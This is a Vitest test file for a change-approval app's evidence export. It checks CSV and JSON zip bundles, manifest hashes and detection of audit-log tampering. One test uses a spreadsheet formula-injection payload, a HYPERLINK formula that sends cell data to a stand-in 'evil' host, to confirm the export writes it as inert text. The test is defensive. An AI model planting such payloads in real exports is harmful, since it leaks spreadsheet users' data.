import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Actor } from '../../../src/app/context.ts';
import { buildEvidenceBundle } from '../../../src/app/export/evidence-bundle.ts';
import { collectEvidence } from '../../../src/app/export/evidence-records.ts';
import { castVote } from '../../../src/app/use-cases/cast-vote.ts';
import { editChange } from '../../../src/app/use-cases/edit-change.ts';
import {
  completeChange,
  recordReview,
  startImplementation,
} from '../../../src/app/use-cases/implementation.ts';
import { raiseChange } from '../../../src/app/use-cases/raise-change.ts';
import { verifyAuditChain } from '../../../src/db/audit.ts';
import { hoursAfter, MEDIUM_ANSWERS, makeDraft, NOW } from '../../domain/fixtures.ts';
import { type AppHarness, createAppHarness } from '../harness.ts';

let h: AppHarness;
let rita: Actor;
let alice: Actor;
let carol: Actor;

beforeEach(() => {
  h = createAppHarness();
  rita = h.slackActor('URITA', 'Rita', 'rita@example.com');
  alice = h.slackActor('UALICE', 'Alice', 'alice@example.com');
  carol = h.teamsActor('teams-carol', 'Carol', 'carol@example.com');
});
afterEach(() => h.close());

const PERIOD = { from: hoursAfter(NOW, -24), to: hoursAfter(NOW, 24 * 7) };

/** A change edited once, refused a self-approval, approved by two on two platforms, implemented and reviewed. */
function history(): number {
  const draft = makeDraft({ risk: MEDIUM_ANSWERS });
  const raised = raiseChange(h.ctx, rita, { draft });
  if (!raised.ok) throw new Error(JSON.stringify(raised.error));
  const id = raised.value.change.id;
  h.clock.advanceMinutes(10);
  const edited = editChange(h.ctx, rita, {
    changeId: id,
    expectedVersion: 1,
    draft: { ...draft, title: 'Upgrade, "v2", now' },
  });
  if (!edited.ok) throw new Error(JSON.stringify(edited.error));
  castVote(h.ctx, rita, { changeId: id, version: 2, decision: 'approve', reason: null });
  h.clock.advanceMinutes(10);
  castVote(h.ctx, alice, {
    changeId: id,
    version: 2,
    decision: 'approve',
    reason: 'Looks safe,\nplan is fine',
  });
  castVote(h.ctx, carol, { changeId: id, version: 2, decision: 'approve', reason: null });
  h.clock.set(hoursAfter(NOW, 96));
  expect(startImplementation(h.ctx, rita, { changeId: id }).ok).toBe(true);
  h.clock.advanceMinutes(30);
  expect(
    completeChange(h.ctx, rita, {
      changeId: id,
      outcome: 'successful_with_issues',
      note: 'slow',
      incidentsCaused: 1,
    }).ok,
  ).toBe(true);
  expect(
    recordReview(h.ctx, rita, { changeId: id, metGoal: true, summary: 'Done', lessons: 'Warm caches' }).ok,
  ).toBe(true);
  return id;
}

describe('the evidence export', () => {
  it('records versions, votes with who, where, when and why, the rule, implementation and review', () => {
    history();
    const tables = collectEvidence(h.ctx, PERIOD);
    expect(tables.changes).toHaveLength(1);
    expect(tables.changes[0]).toMatchObject({
      change: 'CHG-1',
      version: '2',
      state: 'closed',
      title: 'Upgrade, "v2", now',
      requester: 'Rita',
      outcome: 'successful_with_issues',
      incidents_caused: '1',
      review_met_goal: 'true',
      review_summary: 'Done',
      review_by: 'Rita',
    });
    expect(tables.versions.map((v) => [v.version, v.action, v.changed])).toEqual([
      ['1', 'change.raised', ''],
      ['2', 'change.edited', 'title'],
    ]);
    expect(tables.votes.map((v) => [v.voter, v.platform, v.decision, v.reason, v.at])).toEqual([
      ['Alice', 'slack', 'approve', 'Looks safe,\nplan is fine', hoursAfter(NOW, 20 / 60).toISOString()],
      ['Carol', 'teams', 'approve', '', hoursAfter(NOW, 20 / 60).toISOString()],
    ]);
    expect(tables.approvals[0]).toMatchObject({
      board: 'cab',
      required: '2',
      approvals: '2',
      rule_outcome: 'approved',
      decided: 'approved',
      decided_by_vote_of: 'Carol',
      requester_approved: 'false',
      refused_self_approvals: '1',
    });
    expect(tables.audit.map((e) => e.action)).toContain('vote.refused');
  });

  it('zips CSV files that parse back to the same records, with a manifest of matching hashes', () => {
    history();
    const bundle = buildEvidenceBundle(h.ctx, PERIOD, 'csv');
    const files = unzipSync(bundle.zip);
    const manifest = JSON.parse(strFromU8(files['manifest.json']!));
    expect(manifest).toEqual(JSON.parse(JSON.stringify(bundle.manifest)));
    const chain = verifyAuditChain(h.database.db);
    expect(chain.ok && manifest.auditChain).toEqual({
      verifies: true,
      eventCount: chain.ok && chain.count,
      lastHash: chain.ok && chain.lastHash,
    });
    expect(Object.keys(files).sort()).toEqual([
      'approvals.csv',
      'audit.csv',
      'changes.csv',
      'manifest.json',
      'versions.csv',
      'votes.csv',
    ]);
    for (const entry of manifest.files) {
      const bytes = files[entry.name]!;
      expect(createHash('sha256').update(bytes).digest('hex'), entry.name).toBe(entry.sha256);
      expect(bytes.length).toBe(entry.bytes);
    }
    const tables = collectEvidence(h.ctx, PERIOD);
    for (const table of ['changes', 'versions', 'votes', 'approvals', 'audit'] as const) {
      const parsed = parse(strFromU8(files[`${table}.csv`]!), { columns: true });
      expect(parsed, table).toEqual(tables[table]);
    }
  });

  it('writes a cell that looks like a formula as text, so a spreadsheet does not run it', () => {
    const raised = raiseChange(h.ctx, rita, {
      draft: makeDraft({ title: '=HYPERLINK("http://evil/?"&A1,"x")' }),
    });
    if (!raised.ok) throw new Error(JSON.stringify(raised.error));
    const changes = strFromU8(unzipSync(buildEvidenceBundle(h.ctx, PERIOD, 'csv').zip)['changes.csv']!);
    expect(changes).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(changes).toContain("'=HYPERLINK");
  });

  it('exports a period that ends past 2099 (zip times stop there)', () => {
    history();
    const bundle = buildEvidenceBundle(
      h.ctx,
      { from: PERIOD.from, to: new Date('2100-01-01T00:00:00Z') },
      'json',
    );
    expect(Object.keys(unzipSync(bundle.zip))).toContain('changes.json');
  });

  it('writes the same records as JSON, and an empty period as headers only', () => {
    history();
    const json = unzipSync(buildEvidenceBundle(h.ctx, PERIOD, 'json').zip);
    expect(JSON.parse(strFromU8(json['votes.json']!))).toEqual(collectEvidence(h.ctx, PERIOD).votes);
    const empty = buildEvidenceBundle(h.ctx, { from: hoursAfter(NOW, -48), to: hoursAfter(NOW, -24) }, 'csv');
    expect(empty.manifest.changes).toBe(0);
    expect(strFromU8(unzipSync(empty.zip)['votes.csv']!)).toBe(
      'change,version,voter,voter_email,platform,decision,reason,at,counts_for_current_version\n',
    );
  });

  it('says in the manifest when the audit chain is broken', () => {
    history();
    h.database.sqlite.exec('DROP TRIGGER IF EXISTS audit_events_no_update');
    const triggers = h.database.sqlite
      .prepare(`SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'audit_events'`)
      .all() as { name: string }[];
    for (const t of triggers) h.database.sqlite.exec(`DROP TRIGGER ${t.name}`);
    h.database.sqlite.prepare(`UPDATE audit_events SET reason = 'forged' WHERE seq = 2`).run();
    const bundle = buildEvidenceBundle(h.ctx, PERIOD, 'csv');
    expect(bundle.manifest.auditChain).toEqual({
      verifies: false,
      brokenAt: 2,
      reason: 'hash does not match the event content',
    });
  });
});
